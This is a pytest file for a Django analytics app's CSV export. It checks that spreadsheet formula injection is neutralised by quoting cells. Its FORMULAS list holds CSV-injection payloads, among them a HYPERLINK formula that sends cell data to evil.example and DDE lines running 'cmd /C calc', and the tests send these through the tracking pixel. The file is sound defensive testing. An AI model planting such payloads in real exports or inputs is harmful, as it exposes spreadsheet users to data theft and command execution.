"""An export never holds a live spreadsheet formula: anyone can set a title, an event name or a referrer through
the pixel, and a spreadsheet is where most people open the file (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import gzip
import io
import re
import uuid
from datetime import UTC, datetime
from urllib.parse import quote

import pytest
from django.db import transaction
from django.http import FileResponse
from django.test import Client

from analytics import sites
from analytics.models import Domain, Site
from analytics.services import CleanHit, record_hits
from analytics.tasks import FORMULA, run_export
from conftest import client_with_key, make_key

AT = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # a quote a spreadsheet would drop, then a formula
    "''@SUM(1)",
]
HARMLESS = ["/plain", "'quoted but no formula", "a=b+c", "100%", "Ünïcode — title", "''"]


@pytest.fixture
def site(alice, settings, tmp_path) -> Site:
    settings.EXPORT_DIR = tmp_path
    settings.ALLOWED_HOSTS = ["*"]
    sites.forget_pixel_sites()
    site = Site.objects.create(code="alice-blog", owner=alice)
    Domain.objects.create(site=site, domain="stats.alice.example")
    return site


def exported_rows(alice) -> list[dict[str, str]]:
    client = client_with_key(make_key(alice, "export"))
    export_id = client.post("/api/v0/export", format="json").json()["id"]
    run_export.call(export_id)
    r = client.get(f"/api/v0/export/{export_id}/download")
    assert r.status_code == 200 and isinstance(r, FileResponse)
    text = gzip.decompress(b"".join(r.streaming_content)).decode()
    return list(csv.DictReader(io.StringIO(text)))


def imported(cell: str) -> str:
    """What an importer reads back: one ' off a cell that had it added (README, "Exports")."""
    return cell[1:] if cell.startswith("'") and re.match(FORMULA, cell[1:]) else cell


def test_every_cell_a_spreadsheet_would_run_gets_a_quote_and_reads_back_unchanged(site, alice):
    values = FORMULAS + HARMLESS
    with transaction.atomic():
        record_hits(
            site,
            [
                CleanHit(
                    path=value if event else f"/p{i}",
                    event=event,
                    title=value,
                    ref=value,
                    ref_scheme="o",
                    browser=value[:100],
                    system=value[:100],
                    visitor=uuid.uuid4(),
                    created_at=AT,
                )
                for i, value in enumerate(values)
                for event in (False, True)
            ],
        )
    rows = exported_rows(alice)
    assert len(rows) == 2 * len(values)
    for row in rows:
        cells = [row["Title"], row["Referrer"], row["Browser"], row["System"]]
        if row["Event"] == "1":
            cells.append(row["2Path"])
        value = imported(row["Title"])
        assert value in values
        for cell in cells:
            assert imported(cell) == value
            if value in FORMULAS:
                assert cell == "'" + value  # shown as text, never run
            else:
                assert cell == value


def test_the_findings_payloads_through_the_pixel_are_inert(site, alice):
    """=HYPERLINK(...), +cmd|..., @SUM(1) sent as a title, an event and a referrer by an anonymous visitor."""
    for i, payload in enumerate(FORMULAS[:4]):
        r = Client().get(
            f"/count?p={quote(payload)}&e=true&t={quote(payload)}&r={quote(payload)}",
            HTTP_HOST="stats.alice.example",
            HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
            REMOTE_ADDR=f"203.0.113.{i + 1}",
        )
        assert r.status_code == 200, r.headers.get("X-Goatcounter")
    rows = exported_rows(alice)
    assert len(rows) == 4
    for row in rows:
        for cell in (row["2Path"], row["Title"], row["Referrer"]):
            assert cell.startswith("'") and re.match(FORMULA, cell[1:])
    assert sorted(imported(row["Title"]) for row in rows) == sorted(FORMULAS[:4])
